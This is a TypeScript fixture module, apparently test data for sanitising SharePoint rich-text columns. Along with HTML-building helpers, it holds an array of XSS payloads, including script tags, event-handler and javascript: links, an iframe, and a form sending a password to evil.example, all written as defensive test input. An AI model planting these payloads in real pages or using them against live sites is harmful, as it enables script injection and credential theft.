/**
 * Rich-text (HTML) values as SharePoint's enhanced rich text columns hold them, including a
 * few hostile inputs so the product's sanitiser is exercised. These strings are data only:
 * nothing here renders them.
 */

/** Markup that a sanitiser must neutralise; each entry is a different attack. */
export const HOSTILE_FRAGMENTS = [
  '<script>alert("member-bio")</script>',
  '<img src="/missing.png" onerror="alert(\'onerror\')" alt="">',
  '<a href="javascript:alert(\'link\')">Read my manifesto</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%" onclick="alert(\'click\')">Click anywhere</p>',
  '<svg><script>alert("svg")</script></svg>',
  '<a href="JaVaScRiPt:alert(1)" target="_blank">Mixed-case scheme</a>',
  '<form action="https://evil.example/steal"><input name="password"></form>'
] as const;

export function escapeHtml(text: string): string {
  return text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** Wraps content the way SharePoint's rich text editor does. */
export function richTextDiv(innerHtml: string): string {
  return `<div class="ExternalClass">${innerHtml}</div>`;
}

export function paragraphs(lines: readonly string[]): string {
  return lines.map((line) => `<p>${escapeHtml(line)}</p>`).join('');
}

export function bulletList(lines: readonly string[]): string {
  return `<ul>${lines.map((line) => `<li>${escapeHtml(line)}</li>`).join('')}</ul>`;
}

export function link(url: string, text: string): string {
  return `<a href="${escapeHtml(url)}">${escapeHtml(text)}</a>`;
}
